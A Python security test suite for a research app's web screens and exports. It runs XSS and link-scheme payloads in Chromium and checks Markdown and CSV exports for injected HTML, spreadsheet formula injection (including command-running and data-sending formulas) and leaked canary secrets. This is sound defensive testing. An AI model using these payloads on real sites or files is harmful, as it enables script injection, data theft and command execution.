"""Cases of screens and exports: what a hostile text does in a real Chromium, in a Markdown reader, in a sheet."""

from __future__ import annotations

import csv
import html
import io
import itertools
import json
import re
import tempfile
import urllib.parse
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import commonmark
import lxml.html
import markdown_it
from playwright.sync_api import Error, Page, sync_playwright

from agent.actions.export import FORMATS, export_run
from agent.errors import TouchstoneError
from agent.settings import config as configuration
from agent.types import Outcome, Settings, Status
from agent.types import Page as StoredPage
from agent.workbench import Workbench
from bench.long_runs import Writer
from bench.trust.scorecard import Bench, Result, case
from tests.browser import chromium
from tests.browser.served import Served
from tests.browser.test_safety import FORMS

LEAK = "http://127.0.0.1:9"
"""A port of this machine where nobody listens: a request to it is seen, and goes nowhere."""
TABS = ("Facts", "Confidence", "Source graph", "Unavailable sources", "Conflicts", "Model calls")
SCREENS = ("", "runs", "library", "chat", "site", "collect", "reply", "batch", "check_text", "settings")
EVENTS = "onerror onload onclick onmouseover onfocus onanimationstart ontoggle onbegin".split()
TAGS = "img svg body details video input a iframe math marquee object embed style form button select".split()
SCHEMES = ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd", "javascript://%0aalert(1)", "\x01javascript:alert(1)", "blob:x")  # fmt: skip
HANG = (
    """() => !document.querySelector('[data-testid="stStatusWidget"]') && document.querySelector('.stMain')"""
)


def payloads() -> list[str]:
    """Texts that run or load something where they are taken for more than texts."""
    made = [f"<{tag} {event}=alert(1) src=x autofocus>" for tag, event in itertools.product(TAGS, EVENTS)]
    made += [
        f"\"'><{tag} src={LEAK}/p {event}=alert(1)>" for tag, event in itertools.product(TAGS[:6], EVENTS)
    ]
    made += [form.format(scheme) for scheme in SCHEMES for form in ("[a]({})", "<a href='{}'>a</a>", "![a]({})", "<{}>", "[a]: {}", "[a]({} 'b')")]  # fmt: skip
    made += [form.format(leak=LEAK) for form in FORMS]
    made += [html.escape(one) for one in made[:20]] + [urllib.parse.quote(one) for one in made[:20]]
    made += ["<scr<script>ipt>alert(1)</script>", "</textarea><script>alert(1)</script>", "${alert(1)}", "{{7*7}}", "<!--><script>alert(1)-->", "<![CDATA[<script>alert(1)</script>]]>", "\u2028<script>alert(1)</script>", "<svg><script>alert&#40;1)</script>", "<math><mtext></p><img src onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"]  # fmt: skip
    return made


def exfiltration_forms() -> list[str]:
    """55 ways to have something loaded without a click."""
    hosts = (LEAK, LEAK.replace("http:", ""), LEAK.replace("http", "HTTP"))
    return [form.format(leak=host) for host in hosts for form in FORMS][:55]


class Hostile(Writer):
    """Writes a run whose every text is one of some payloads."""

    def __init__(self, bench: Workbench, texts: list[str], seed: int) -> None:
        super().__init__(bench.store, 8, seed)
        self.texts = itertools.cycle(texts)
        self.question = next(self.texts) or "?"
        body = "\n\n".join(texts)
        page = StoredPage(
            url="https://a.example/", final_url="https://a.example/", outcome=Outcome.OK, title=texts[0], text=body
        )  # fmt: skip
        self.page_id = bench.store.pages.put(page)

    def _say(self, words: int) -> str:
        return next(self.texts)

    def _fact(self, url: str, step: int, page_id: str) -> Any:
        return super()._fact(url, step, self.page_id)


@contextmanager
def browser_over(texts: list[str], size: int) -> Iterator[tuple[Page, str, list[tuple[str, str]], list[str]]]:
    """A server whose store holds hostile runs of `size` texts each; a tab, the server's address, the runs, and
    the list where each request to another place, and each dialog, is noted."""
    noted: list[str] = []
    with tempfile.TemporaryDirectory() as folder:
        own = {"TOUCHSTONE_DATA": folder, "OLLAMA_URL": "", "EMBEDDING_MODEL": "off"}
        opened = Workbench(configuration.read_config(own))
        starts = range(0, len(texts), size)
        made = [Hostile(opened, texts[n : n + size], n) for n in starts]
        runs = [(one.write(Status.REVIEW), one.page_id) for one in made]
        for n, text in enumerate(texts[:40]):
            with suppress(TouchstoneError):
                opened.library.add_file(
                    f"d{n}.md", f"# {text}\n\nThe vat holds 400 litres.\n\n{text}\n".encode()
                )
        opened.shutdown()
        server = Served(Path(folder)).start()
        try:
            with sync_playwright() as playwright:
                context = chromium.launch(playwright).new_context()
                context.set_default_timeout(30_000)
                home = (server.url, server.url.replace("http", "ws"), "data:", "blob:", "about:")
                context.on(
                    "request", lambda one: one.url.startswith(home) or noted.append(f"asked for {one.url}")
                )
                page = context.new_page()
                page.on("dialog", lambda one: (noted.append(f"a dialog: {one.message}"), one.dismiss()))
                yield page, server.url, runs, noted
                context.close()
        finally:
            server.stop()


def settle(page: Page) -> None:
    """Wait until the screen is drawn."""
    page.wait_for_selector(".stMain")
    page.wait_for_timeout(300)
    with suppress(Error):
        page.wait_for_function(HANG, timeout=15_000)


def find_harm(page: Page, where: str) -> list[str]:
    """Elements and links on the screen that a text has made."""
    links = page.locator(".stMain a[href]").evaluate_all(
        "all => all.map(a => [a.protocol, a.rel, a.host, a.href])"
    )
    own = urllib.parse.urlsplit(page.url).netloc
    misses = [
        f"{where}: a link to {href[:80]}"
        for protocol, _, _, href in links
        if protocol not in ("http:", "https:")
    ]
    misses += [
        f"{where}: {host} without noopener"
        for _, rel, host, _ in links
        if host != own and "noopener" not in rel
    ]
    found = page.locator(".stMain :is(img:not([src^='data:']):not([src*='/media/']), iframe, script, object, embed, video, form[action], svg image, marquee)")  # fmt: skip
    return misses + ([f"{where}: {found.first.evaluate('e => e.outerHTML')[:120]}"] if found.count() else [])


def look_everywhere(texts: list[str], size: int, screens: tuple[str, ...]) -> tuple[int, list[str]]:
    """Show the texts on every tab of runs, on the page view, and on these screens; views drawn, and misses."""
    misses, views = [], 0
    with browser_over(texts, size) as (page, url, runs, noted):

        def look(where: str) -> None:
            nonlocal views
            settle(page)
            views += 1
            misses.extend([*find_harm(page, where), *(f"{where}: {one}" for one in noted)])
            noted.clear()

        for number, (run, page_id) in enumerate(runs):
            page.goto(f"{url}?run={run}")
            look(f"run {number}")
            for name in TABS:
                tab = page.get_by_role("tab", name=name, exact=True)
                with suppress(Error):
                    tab.first.click(timeout=5_000)
                    look(f"run {number}, {name}")
            page.goto(f"{url}page?run={run}&id={page_id}&fact=f0")
            look(f"run {number}, page")
        for screen in screens:
            page.goto(url + screen)
            look(screen or "front")
            if screen == "runs":
                page.goto(f"{url}compare?run={runs[0][0]}&other={runs[-1][0]}")
                look("compare")
    return views, misses


@case("S4.1", "Scripts in every text of a run, in Chromium", "0 dialogs, 0 requests, 0 bad links")
def scripts(bench: Bench) -> Result:
    texts = payloads()
    if bench.corpora:
        naughty = json.loads(bench.corpus("strings/blns.json").read_text(encoding="utf-8"))
        texts += [text for text in naughty if text.strip() and "\x00" not in text]
    texts = bench.thin(texts, 80)
    views, misses = look_everywhere(texts, 60, ("", "runs", "library"))
    return Result(len(texts), f"{len(misses)} on {views} views of runs whose every text is one", misses)


@case("S4.2", "55 forms of exfiltration on every screen, in Chromium", "0 requests, 0 bad links")
def loads(bench: Bench) -> Result:
    forms = exfiltration_forms()
    views, misses = look_everywhere(forms, 11, SCREENS)
    return Result(len(forms), f"{len(misses)} on {views} views", misses)


@contextmanager
def hostile_run(texts: list[str]) -> Iterator[tuple[Workbench, str]]:
    """A workbench with one run whose every text is one of these."""
    with tempfile.TemporaryDirectory() as folder:
        opened = Workbench(
            configuration.read_config({"TOUCHSTONE_DATA": folder, "OLLAMA_URL": "", "EMBEDDING_MODEL": "off"})
        )
        yield opened, Hostile(opened, texts, 1).write(Status.REVIEW)
        opened.shutdown()


RENDERERS = {
    "commonmark": commonmark.commonmark,
    "GFM (markdown-it)": markdown_it.MarkdownIt("gfm-like", {"linkify": False}).render,
    "markdown-it with HTML": markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render,
}
BAD_ELEMENTS = "img script iframe svg object embed video form meta style link base input".split()


def find_bad_elements(drawn: str) -> list[str]:
    """Elements of a document that load or run something, and links that lead elsewhere than to the web."""
    tree = lxml.html.fragment_fromstring(drawn, create_parent="div")
    bad = [
        element
        for element in tree.iter()
        if element.tag in BAD_ELEMENTS or any(n.startswith("on") for n in element.attrib)
    ]
    hrefs = [href for href in tree.xpath("//@href | //@src") if not re.match(r"https?:|#|mailto:", href)]
    return [lxml.html.tostring(element, encoding="unicode")[:120] for element in bad] + hrefs


@case("S4.3", "The Markdown export in three readers", "no picture, no HTML, no bad link", quick=True)
def markdown(bench: Bench) -> Result:
    misses, count = [], 0
    texts = exfiltration_forms() + bench.thin(payloads(), 20)
    for start in range(0, len(texts), 20):
        part = texts[start : start + 20]
        with hostile_run(part) as (opened, run_id):
            text = export_run(opened, run_id, "md").decode()
        for name, render in RENDERERS.items():
            count += len(part)
            drawn = render(text)
            misses += [f"{name}: {bad}" for bad in find_bad_elements(drawn)]
    return Result(count, f"{len(misses)} of {len(texts)} texts x {len(RENDERERS)} readers", misses)


LIVE = ("=1+1", "+1", "-1+1|cmd", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "＝1+1", "＋1", "－1", "＠SUM(1)", '"=1', "'=1",
    "=HYPERLINK(\"http://x/?\"&A1)", '=WEBSERVICE("http://x")', '=IMPORTXML("http://x","//a")', "=cmd|' /C calc'!A0", "\u200b=1", "\ufeff=1", "=1;2", "%0A=1", "‑1", "−1")  # fmt: skip


@case("S4.4", "Cells that a sheet would compute, in every table that is exported", "0 live cells", quick=True)
def cells(bench: Bench) -> Result:
    misses, count = [], 0
    with hostile_run(list(LIVE)) as (opened, run_id):
        for name in FORMATS:
            with suppress(TouchstoneError):
                data = export_run(opened, run_id, name)
                text = data.decode("utf-8-sig", "replace")
                if not FORMATS[name].extension.endswith("csv"):
                    continue
                for row in csv.reader(io.StringIO(text)):
                    count += len(row)
                    bad = [cell for cell in row if re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]", cell) and not cell.startswith("'") and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]  # fmt: skip
                    misses += [f"{name}: {cell!r}" for cell in bad]
    return Result(count, f"{len(misses)} of {count} cells", misses)


CANARIES = {
    "OPENAI_API_KEY": "sk-canaryA1",
    "GOOGLE_API_KEY": "canaryB2",
    "BRAVE_API_KEY": "canaryC3",
    "TAVILY_API_KEY": "canaryD4",
    "METRICS_TOKEN": "canaryE5canaryE5",
    "OIDC_CLIENT_SECRET": "canaryF6",
    "TOUCHSTONE_SECRET_KEY": "canaryG7" * 6,
}


@case(
    "S4.7",
    "Secrets after a run with a failing model, at DEBUG",
    "0 in logs, database, exports, screens, /metrics",
)
def secrets(bench: Bench) -> Result:
    misses, places = [], {}
    with tempfile.TemporaryDirectory() as folder:
        known = {name: value for name, value in CANARIES.items() if name in configuration.SETTINGS}
        url = "http://user:canaryH8@127.0.0.1:9/v1"
        server = Served(
            Path(folder),
            **known,
            OPENAI_BASE_URL=url,
            LOG_LEVEL="DEBUG",
            MODEL="m",
            STREAMLIT_LOGGER_LEVEL="debug",
        )
        with suppress(AssertionError):
            server.start()
        opened = Workbench(
            configuration.read_config(
                {"TOUCHSTONE_DATA": folder, **known, "OPENAI_BASE_URL": url, "MODEL": "m"}
            )
        )
        run_id = opened.start("In which year was Älvmora Mejeri founded?", Settings(world="demo"))
        opened.drive(run_id)
        for name in FORMATS:
            with suppress(TouchstoneError):
                places[f"export {name}"] = export_run(opened, run_id, name)
        if server.process is not None:
            for path in ("metrics", "healthz", "settings", "readyz"):
                with suppress(OSError):
                    places[path] = urllib.request.urlopen(server.url + path, timeout=20).read()
            server.stop()
        opened.shutdown()
        for path in Path(folder).rglob("*"):
            if path.is_file():
                places[path.name] = path.read_bytes()
    for place, data in places.items():
        words = [value[:8] for value in (*known.values(), "canaryH8")]
        misses += [f"{place} holds {word}" for word in words if word.encode() in data]
    return Result(len(known) + 1, f"{len(misses)} hits in {len(places)} places", misses)
